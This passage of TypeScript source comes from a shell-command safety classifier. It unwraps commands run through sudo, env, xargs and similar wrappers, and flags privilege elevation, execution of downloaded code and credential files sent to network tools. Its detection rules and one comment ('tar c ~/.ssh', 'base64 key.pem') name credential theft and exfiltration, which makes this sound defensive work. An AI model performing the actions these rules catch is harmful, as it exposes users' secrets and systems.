      let skip = -1; // index in rest of the wrapped command; -1 = not a wrapper
      switch (name) {
        case 'sudo': {
          skip = commandIndex(rest, 'ugpChrtTDUR', SUDO_LONG_ARGS, true);
          for (const a of rest.slice(0, skip)) {
            const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(a.text);
            if (m) this.checkVariable(m[1]!, m[2]!, a.dynamic);
          }
          if (rest.slice(0, skip).some((a) => /^-[A-Za-z]*e/.test(a.text) || a.text === '--edit')) {
            this.add('caution', 'runs with elevated privileges (sudo)');
            return this.dispatch('sudoedit', [litArg('sudoedit'), ...rest.slice(skip)], { ...o, privileged: true, viaXargs, stdin });
          }
          break;
        }
        case 'doas':
          skip = commandIndex(rest, 'uC', [], false);
          break;
        case 'pkexec':
          skip = commandIndex(rest, '', ['user'], false);
          break;
        case 'su':
        case 'runuser': {
          this.wrapperOptions(name, rest);
          const code = [...optValuesOf(rest, 'c', 'command'), ...optValuesOf(rest, null, 'session-command')];
          this.add('caution', `runs with elevated privileges (${name})`);
          if (code.length) {
            for (const c of code) this.nested(c, `${name} -c`);
            return {};
          }
          if (name === 'runuser' && rest.some((a) => a.text === '-u' || a.text.startsWith('--user'))) {
            skip = commandIndex(rest, 'ugG', ['user', 'group', 'supp-group'], false);
            break;
          }
          this.add('caution', `opens a shell as another user (${name})`);
          return {};
        }
        case 'env': {
          const split = optValuesOf(rest, 'S', 'split-string');
          skip = commandIndex(rest, 'uCS', ['unset', 'chdir', 'split-string'], true);
          for (const a of rest.slice(0, skip)) {
            const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(a.text);
            if (m) this.checkVariable(m[1]!, m[2]!, a.dynamic);
          }
          if (split.length) {
            this.nested([...split, ...rest.slice(skip).map((a) => a.text)].join(' '), 'env -S');
            return {};
          }
          break;
        }
        case 'nice':
          skip = commandIndex(rest, 'n', ['adjustment'], false);
          break;
        case 'ionice':
          if (rest.some((a) => a.text === '-p' || a.text.startsWith('--pid'))) {
            this.add('caution', 'changes I/O priority of a running process');
            return {};
          }
          skip = commandIndex(rest, 'cnt', ['class', 'classdata'], false);
          break;
        case 'nohup':
        case 'setsid':
          this.add('caution', `detaches the command from the session (${name}), so it outlives the command line`);
          skip = commandIndex(rest, '', [], false);
          break;
        case 'unbuffer':
        case 'catchsegv':
        case 'torsocks':
        case 'tsocks':
        case 'builtin':
        case 'firejail':
        case 'systemd-inhibit':
          skip = commandIndex(rest, '', [], false);
          break;
        case 'proxychains':
        case 'proxychains4':
          skip = commandIndex(rest, 'f', [], false);
          break;
        case 'caffeinate':
          skip = commandIndex(rest, 'tw', [], false);
          break;
        case 'stdbuf':
          skip = commandIndex(rest, 'ioe', ['input', 'output', 'error'], false);
          break;
        case 'strace':
        case 'ltrace':
          skip = commandIndex(rest, 'abeEIoOpPsSuUX', [], false);
          break;
        case 'timeout': {
          const k = commandIndex(rest, 'sk', ['signal', 'kill-after'], false);
          skip = k < rest.length ? k + 1 : k; // skip DURATION
          break;
        }
        case 'chrt':
        case 'taskset': {
          if (rest.some((a) => a.text === '-p' || a.text === '--pid')) {
            this.add('caution', `changes scheduling of a running process (${name})`);
            return {};
          }
          const k = commandIndex(rest, name === 'taskset' ? '' : 'T', [], false);
          skip = k < rest.length ? k + 1 : k;
          break;
        }
        case 'chroot': {
          const k = commandIndex(rest, '', ['userspec', 'groups'], false);
          skip = k < rest.length ? k + 1 : k;
          if (skip >= rest.length) {
            this.add('caution', 'opens a root shell in a chroot');
            return {};
          }
          break;
        }
        case 'time':
          for (const out of optValuesOf(rest, 'o', 'output')) {
            const f = writeFinding(out, 'time -o writes to');
            if (f) this.add(f.tier, f.reason);
          }
          skip = commandIndex(rest, 'fo', ['format', 'output'], false);
          break;
        case 'command':
          if (rest.some((a) => /^-[pvV]*[vV]/.test(a.text))) return {}; // command -v / -V: lookup only
          skip = commandIndex(rest, '', [], false);
          break;
        case 'exec':
          skip = commandIndex(rest, 'a', [], false);
          break;
        case 'busybox':
        case 'toybox':
          if (rest[0]?.text.startsWith('-')) return {};
          skip = 0;
          break;
        case 'watch': {
          skip = commandIndex(rest, 'nq', ['interval', 'chgexit', 'equexit', 'differences'], false);
          if (!rest.some((a) => a.text === '-x' || a.text === '--exec') && skip < rest.length) {
            this.nested(
              rest
                .slice(skip)
                .map((a) => a.text)
                .join(' '),
              'watch',
            );
            return {};
          }
          break;
        }
        case 'flock': {
          const k = commandIndex(rest, 'wE', ['timeout', 'conflict-exit-code'], false);
          const after = rest.slice(k + 1);
          if (after[0]?.text === '-c' || after[0]?.text === '--command') {
            if (after[1]) this.nested(after[1].text, 'flock -c');
            return {};
          }
          skip = k < rest.length ? k + 1 : k;
          break;
        }
        case 'xargs':
          skip = commandIndex(rest, 'adEILnPs', ['arg-file', 'delimiter', 'max-lines', 'max-args', 'max-procs', 'max-chars', 'process-slot-var'], false);
          viaXargs = true;
          if (skip >= rest.length) return {}; // defaults to echo
          secretArgs = stdin?.secretNames ?? secretArgs;
          stdin = undefined;
          break;
        case 'parallel': {
          skip = commandIndex(rest, 'jSaIdE', ['jobs', 'sshlogin', 'arg-file', 'delimiter'], false);
          viaXargs = true;
          const stop = rest.findIndex((a, k) => k >= skip && /^:::+$/.test(a.text));
          const sub = rest.slice(skip, stop < 0 ? undefined : stop);
          if (sub.length === 1 && /\s/.test(sub[0]!.text)) {
            this.nested(sub[0]!.text.replace(/\{[^}]*\}/g, './item'), 'parallel');
            return {};
          }
          break;
        }
        default:
          break;
      }
      if (skip < 0) return this.dispatch(name, argv.slice(i), { ...o, privileged, viaXargs, stdin, secretArgs });
      this.wrapperOptions(name, rest.slice(0, skip));
      if (PRIVILEGE.has(name)) {
        privileged = true;
        this.add('caution', `runs with elevated privileges (${name})`);
      }
      if (skip >= rest.length) {
        // wrapper without a command: env/printenv output, `sudo -l`, `sudo -i` (root shell), `nice`...
        if (name === 'sudo' && rest.some((a) => /^-[^-]*[is]/.test(a.text) || a.text === '--login' || a.text === '--shell'))
          this.add('caution', 'opens a root shell (sudo -i/-s)');
        if (name === 'doas' && rest.some((a) => a.text === '-s')) this.add('caution', 'opens a root shell (doas -s)');
        if (name === 'env') {
          const secret = secretOutput('env', rest);
          return secret ? { secret } : {};
        }
        return {};
      }
      i = i + 1 + skip;
    }
    this.add('caution', 'too many nested command wrappers');
    return {};
  }

  /** A wrapper's own options (sudo -D, env -C, strace -o, xargs -a, ...). */
  private wrapperOptions(name: string, own: Arg[]): void {
    const view: CommandView = { name, argv: [litArg(name), ...own], args: own, privileged: false, viaXargs: false, stdin: undefined, redirects: [] };
    for (const r of readPaths(name, own)) this.noteRead(r.path, r.recursive, r.contents);
    applyToolOptions(view, this.ctx);
  }

  private dispatch(name: string, argv: Arg[], o: RunOpts): Produced {
    const view: CommandView = {
      name,
      argv,
      args: argv.slice(1),
      privileged: o.privileged,
      viaXargs: o.viaXargs,
      stdin: o.stdin,
      redirects: o.redirs,
    };
    const frame: Frame = { secret: o.stdin?.secret ?? view.args.find((a) => a.secret)?.secret, outputs: [] };
    // Names of credential files as arguments (from xargs or a substitution): the command opens them.
    frame.named = o.secretArgs ?? view.args.find((a) => a.secretNames)?.secretNames;
    if (frame.named) frame.secret ??= frame.named;
    const outer = this.frame;
    this.frame = frame;
    try {
      const reads = readPaths(name, view.args);
      const produced = this.runCommand(view, reads);
      this.flowAfter(view, produced, frame, reads);
      const names = secretNames(name, view.args);
      return frame.secret || names ? { ...produced, secret: frame.secret, secretNames: names ?? produced.secretNames } : produced;
    } finally {
      this.frame = outer;
    }
  }

  /** The checks every command gets, then its rule. */
  private runCommand(v: CommandView, reads: ReadPath[]): Produced {
    const { name, argv } = v;
    if (name === 'cd' || name === 'pushd') this.changeDirectory(v.args);
    if (name === 'ztcp' || name === 'zsocket') {
      // zsh's socket builtins leave the new descriptor in $REPLY
      this.shared.netFds.add('$REPLY');
      this.add('caution', `opens a network connection (${name})`);
    }
    for (const r of reads) {
      this.noteRead(r.path, r.recursive, r.contents);
      const fetched = r.program && name !== 'source' && name !== '.' ? this.fetchedOf(r.path) : undefined;
      if (fetched) this.add('dangerous', `runs a ${fetched === 'download' ? 'downloaded' : 'decoded'} program file (${r.via} ${r.path})`);
    }
    if (FILE_RUNNERS.test(name)) {
      for (const a of v.args) {
        const fetched = a.text.startsWith('-') ? undefined : this.fetchedOf(a.text);
        if (fetched) this.add('dangerous', `runs a ${fetched === 'download' ? 'downloaded' : 'decoded'} file with ${name} (${a.text})`);
      }
    }
    applyToolOptions(v, this.ctx);
    const sink = isNetworkSink(name, v.args);
    const printed = secretOutput(name, v.args);
    if (printed && this.frame) this.frame.secret ??= printed;
    if (!sink && !knowsReads(name) && this.frame && !this.frame.secret) {
      // Any argument naming credential material taints what the command prints (base64 key.pem, tar c ~/.ssh, ...).
      for (const a of v.args) this.frame.secret ??= this.secretOf(a.text.replace(/^[\w-]*=/, ''));
    }
    const shown = argv[0]!.text.includes('/') ? argv[0]!.text : name;
    if (argv[0]!.text.includes('/')) {
      const fetched = this.fetchedOf(argv[0]!.text);
      if (fetched) this.add('dangerous', `runs a ${fetched === 'download' ? 'downloaded' : 'decoded'} file (${shown})`);
    }
    if (sink) this.checkSink(v);
    const rule = ruleFor(name);
    if (rule) return rule(v, this.ctx) ?? {};
    if (SAFE_COMMANDS.has(name)) return {};
    if (this.shared.funcs.has(argv[0]!.text)) return {}; // user function; its body was analysed
    const written = argv[0]!.text.includes('/') ? this.shared.files.get(normPath(argv[0]!.text)) : undefined;
    if (written !== undefined) this.nested(written, shown);
    this.add('caution', `runs '${shown}' (not known to be read-only)`);
    return {};
  }

  /** cd/pushd: tracks the folder commands run in; leaving the workspace is caution. */
  private changeDirectory(args: Arg[]): void {
    const target = args.find((a) => !/^-[LPe@]+$/.test(a.text));
    if (target?.text === '-') return;
    const dest = target?.text ?? '~';
    const next = target?.dynamic && !dest.startsWith('$PWD') && !dest.startsWith('$HOME') ? '?' : changeDir(this.shared.cwd, dest);
    if (cwdOutside(next) && !cwdOutside(this.shared.cwd)) this.add('caution', `changes directory outside the workspace (${next === '?' ? dest : next})`);
    this.shared.cwd = next;
  }

  /** A network tool that receives credential material: on stdin, in an argument, or as a file it uploads. */
  private checkSink(v: CommandView): void {
    const sent: string[] = [];
    if (v.stdin?.secret) sent.push(v.stdin.secret);
    if (this.frame?.named) sent.push(this.frame.named);
    for (const a of v.args) if (a.secret) sent.push(a.secret);
    for (const f of NETWORK_SINKS[v.name]!(v.args).files) {
      const s = this.noteRead(f.path, f.recursive);
      if (s) sent.push(s);
    }
    if (sent.length) this.add('dangerous', `sends credential material to the network (${sent[0]} → ${v.name})`);
  }

  /** Marks the files a command wrote with what they now hold: credentials, downloads, unpacked archives. */
  private flowAfter(v: CommandView, produced: Produced, frame: Frame, reads: ReadPath[]): void {
    const { name, args } = v;
    let sourceFetched: 'download' | 'decoded' | undefined;
    if (this.shared.fetchedFiles.size || this.shared.fetchedDirs.length) {
      for (const r of reads) sourceFetched ??= this.fetchedOf(r.path);
    }
    const targets = produced.download || name === 'scp' || name === 'rsync' || name === 'git' ? downloadTargets(name, args) : [];
    if (targets === 'tree') this.shared.fetchedDirs.push(this.fileKey('.'));
    const copies = COPIERS.has(name) ? copyTargets(name, args) : [];
    const isDownloader = !!produced.download && !v.stdin?.download;
    for (const out of [...frame.outputs, ...copies]) {
      const key = this.fileKey(out);
      if (frame.secret) this.shared.secretFiles.set(key, frame.secret);
      const kind = isDownloader || v.stdin?.download ? 'download' : v.stdin?.decoded ? 'decoded' : sourceFetched;
      if (kind) this.shared.fetchedFiles.set(key, kind);
    }
    for (const out of targets === 'tree' ? [] : targets) this.shared.fetchedFiles.set(this.fileKey(out), 'download');
    if (
      (v.stdin?.download || this.shared.fetchedFiles.size) &&
      extracts(name, args) &&
      (v.stdin?.download || sourceFetched || args.some((a) => this.fetchedOf(a.text)))
    ) {
      const into = extractDir(name, args);
      this.shared.fetchedDirs.push(this.fileKey(into ?? '.'));
    }
  }
}

function optValuesOf(args: Arg[], short: string | null, long: string | null): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    if (t === '--') break;
    if (long && t === `--${long}`) {
      if (args[i + 1]) out.push(args[++i]!.text);
    } else if (long && t.startsWith(`--${long}=`)) out.push(t.slice(long.length + 3));
    else if (short && /^-[A-Za-z]+$/.test(t) && t.includes(short)) {
      const at = t.indexOf(short);
      if (at === t.length - 1) {
        if (args[i + 1]) out.push(args[++i]!.text);
      } else out.push(t.slice(at + 1));
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Entry points

function runSource(src: string, shared: Shared, depth: number, label: string): void {
  if (src.length > MAX_SOURCE) {
    const where = label ? ` (via ${label})` : '';
    shared.sink.add('caution', `command too long to analyse fully (${src.length} characters)${where}`);
    rawScan(src, (t, r) => shared.sink.add(t, r + where));
    return;
  }
  let file: Raw;
  try {
    file = parseShell(src);
  } catch (e) {
    if (!(e instanceof ParseFailure)) throw e;
    const where = label ? ` (via ${label})` : '';
    shared.sink.add('caution', `could not parse as shell: ${e.message}${where}`);
    rawScan(src, (t, r) => shared.sink.add(t, r + where));
    // Best effort: close what is open and analyse the repaired text (bounded number of rounds).
    let text = src;
    let msg = e.message;
    for (let round = 0; round < 4; round++) {
      const suffix = repairSuffix(msg);
      if (suffix === undefined) break;
      text += suffix;
      try {
        const repaired = parseShell(text);
        new Analyzer(text, shared, depth, label).visitStmts(repaired.Stmts);
        break;
      } catch (again) {
        if (!(again instanceof ParseFailure)) throw again;
        msg = again.message;
      }
    }
    return;
  }
  new Analyzer(src, shared, depth, label).visitStmts(file.Stmts);
}

/**
 * Classifies a shell command line (bash syntax). Never throws: unparsable input is 'caution' at
 * least (with a reason), or 'blocked' if a hard-block pattern is visible in the raw text.
 */
export function classifyCommand(command: string): Classification {
  const sink = new Sink();
  const src = typeof command === 'string' ? command : String(command);
  try {
    runSource(src, newShared(sink), 0, '');
  } catch (e) {
    sink.add('caution', `classifier error: ${e instanceof Error ? e.message : String(e)}`);
    rawScan(src, (t, r) => sink.add(t, r));
  }
  return sink.result();
}
